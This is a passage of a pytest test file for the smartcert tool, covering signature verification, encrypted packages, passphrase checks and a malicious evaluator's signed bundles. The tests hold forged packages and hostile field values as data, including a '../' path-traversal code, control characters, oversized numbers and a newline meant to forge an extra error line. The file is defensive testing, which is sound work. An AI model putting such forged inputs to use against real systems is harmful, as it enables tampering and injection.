        code, out, err = run(capsys, "verify", other / "enrollment.json", "--program", base.program)
        assert code == 1 and out == "" and says in error_lines(err)[0], err


def test_a_package_is_trusted_only_with_the_programs_key(base: Base, capsys: Capsys) -> None:
    code, out, err = run(capsys, "verify", base.package("E01"), "--program", base.program)
    assert code == 0 and "signer is the program's key of program 공격 시험" in out, err
    e01 = keymod.load_private_keys(base.evaluator("E01") / "keys" / "evaluator.key", PASS)
    meta = envelope.peek(base.package("E01").read_bytes()).meta
    forged = base.root / "forged.scpkg"
    forged.write_bytes(envelope.seal_package({"schema": "x"}, {}, e01, e01.public, **meta))
    code, out, err = run(capsys, "verify", forged, "--program", base.program)
    assert code == 1 and out == ""
    assert "must be signed by the program's key" in error_lines(err)[0]


# ---------------------------------------------------------------------------------- 5. encrypted packages
def test_a_package_on_a_lost_usb_stick_reveals_no_evidence(base: Base, capsys: Capsys) -> None:
    data = base.package("E01").read_bytes()
    for secret in (PDF, b"XYZZY-EVIDENCE-TEXT", "가시".encode(), "나군".encode(), b"Ga City", b"partial",
                   b"documents/", b"applicants"):
        assert secret not in data, secret
    code, out, err = run(capsys, "verify", base.package("E01"))
    assert code == 0, err
    program_key = keymod.read_key_file_info(base.program / "keys" / "program.key")
    e01_key = keymod.read_key_file_info(base.evaluator("E01") / "keys" / "evaluator.key")
    assert f"signed by: {program_key.fingerprint}" in out
    assert f"encrypted to evaluator key {e01_key.fingerprint}" in out
    assert "evaluator_id: E01" in out


def test_a_package_opens_only_with_its_evaluators_passphrase(base: Base, capsys: Capsys, unchanged,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    e01 = base.evaluator("E01")
    run(capsys, "program", "export-packages", base.program, "--out", base.root / "new")
    monkeypatch.setenv("SMARTCERT_PASSPHRASE", "not the passphrase")
    with unchanged(e01):
        code, _out, err = run(capsys, "evaluator", "import", e01, base.root / "new" / "E01.scpkg")
    assert code == 1
    # The workspace the evaluator opened is named, not the key file inside it.
    assert error_lines(err) == [f"error: wrong passphrase for the evaluator workspace {e01}"]
    monkeypatch.setenv("SMARTCERT_PASSPHRASE", PASS)
    with unchanged(base.evaluator("E02")):
        code, _out, err = run(capsys, "evaluator", "import", base.evaluator("E02"), base.root / "new" / "E01.scpkg")
    assert code == 1 and "is for evaluator E01, but this workspace belongs to E02" in error_lines(err)[0]
    code, out, err = run(capsys, "evaluator", "import", e01, base.root / "new" / "E01.scpkg")
    assert code == 0 and "1 evidence documents" in out, err


def test_an_old_unencrypted_package_is_refused_asking_for_a_new_one(base: Base, capsys: Capsys, unchanged) -> None:
    program = keymod.load_private_keys(base.program / "keys" / "program.key", PASS)
    e01 = keymod.load_private_keys(base.evaluator("E01") / "keys" / "evaluator.key", PASS)
    opened = envelope.open_package(base.package("E01").read_bytes(), e01)
    # What the previous version wrote: the same payload and documents, signed, in clear.
    content = envelope.write_signed("package-content", opened.payload, opened.attachments, program,
                                    meta=opened.meta)
    end = content.index(b"\n", len(envelope.MAGIC))
    header: dict[str, Any] = json.loads(content[len(envelope.MAGIC):end])
    header["format"], header["kind"] = "smartcert-package/1", "package"
    body = envelope.MAGIC + canonical_json_bytes(header) + content[end:-envelope.SIGNATURE_BYTES]
    old = base.root / "old.scpkg"
    old.write_bytes(body + program.sign(body))
    with unchanged(base.evaluator("E01")):
        code, _out, err = run(capsys, "evaluator", "import", base.evaluator("E01"), old)
    assert code == 1
    assert error_lines(err) == [f"error: {old}: is an assignment package in the old format smartcert-package/1, "
                                "which is not encrypted; this version of smartcert reads only encrypted packages "
                                "(smartcert-package/2): ask the agency for a new package"]


# ------------------------------------------------------------------------------------ a malicious evaluator
def _bundle_from_e01(base: Base, sheets: list[dict[str, Any]], sequence: int = 50) -> bytes:
    """A bundle made outside smartcert with E01's own enrolled key: valid signature, hostile content."""
    e01 = keymod.load_private_keys(base.evaluator("E01") / "keys" / "evaluator.key", PASS)
    program_public = keymod.read_key_file_info(base.program / "keys" / "program.key").public
    meta = envelope.peek(base.package("E01").read_bytes()).meta
    connection = sqlite3.connect(base.program / "program.db")
    framework_hash = connection.execute("SELECT framework_hash FROM program").fetchone()[0]
    connection.close()
    payload = {"schema": "smartcert-bundle-payload/1", "program_id": meta["program_id"],
               "framework_hash": framework_hash, "evaluator_id": "E01", "sequence": sequence,
               "created_at": "2026-01-01T00:00:00.000000Z", "app_version": "x", "audit_head": "0" * 64,
               "complete": False, "sheets": sheets}
    return envelope.seal_bundle(payload, e01, program_public, evaluator_id="E01", program_id=meta["program_id"],
                                sequence=sequence)


def _sheet(code: str = "P1", *, comment: str = "x", verified: str | None = None,
           recusal_reason: str = "") -> dict[str, Any]:
    return {"applicant_code": code, "recused": False, "recusal_reason": recusal_reason, "note": "",
            "onsite_note": "", "entries": {"Q1": {"level": None, "verified_value": verified, "comment": comment,
                                                  "onsite_note": "", "confirmed": True}}}


@pytest.mark.parametrize(("sheet", "says"), [
    (_sheet(comment="의견" * 5001), "field sheets[0].entries.Q1.comment: is 10,002 characters long; at most "
                                  "10,000 are allowed"),
    (_sheet(comment="bell\x07"), "field sheets[0].entries.Q1.comment: holds the control character U+0007"),
    (_sheet("../P1"), "field sheets[0].applicant_code: '../P1' holds U+002E FULL STOP at position 1"),
    (_sheet(verified="1E+400000000"), "P1 Q1: value '1E+400000000' is too large"),
    (_sheet(verified="9" * 300), "field sheets[0].entries.Q1.verified_value: is 300 characters long; a value "
                                 "has at most 200"),
])
def test_hostile_content_signed_by_an_enrolled_evaluator_is_rejected(base: Base, capsys: Capsys, unchanged,
                                                                     sheet: dict[str, Any], says: str) -> None:
    bundle = base.root / "hostile.scb"
    bundle.write_bytes(_bundle_from_e01(base, [sheet]))
    with unchanged(base.program):
        code, out, err = run(capsys, "merge", base.program, bundle)
    assert code == 3 and err == ""
    assert out.startswith(f"{bundle}: rejected") and says in out, out


def test_a_message_is_one_line_whatever_it_quotes(base: Base, capsys: Capsys) -> None:
    """A line break quoted from a file cannot split an error into lines that do not start with error:."""
    key = base.evaluator("E01") / "keys" / "evaluator.key"
    document = json.loads(key.read_bytes())
    document["format"] = "\rforged\nerror-free line"
    key.write_bytes(canonical_json_bytes(document) + b"\n")
    code, _out, err = run(capsys, "evaluator", "submit", base.evaluator("E01"), "--out", base.root / "x.scb",
                          "--allow-incomplete")
    assert code == 1
    [line] = error_lines(err)
    assert line.startswith(f"error: the workspace {base.evaluator('E01')} is damaged: its key file "
                           "keys/evaluator.key is damaged (is not a smartcert key file (it is "
                           "'\\rforged\\nerror-free line')). Nothing was written to it."), line
    from smartcert_desktop.errors import Problem

    assert str(Problem("quoted \u2028 text\x07", file="a\nb")) == "a\\nb: quoted \\u2028 text\\x07"
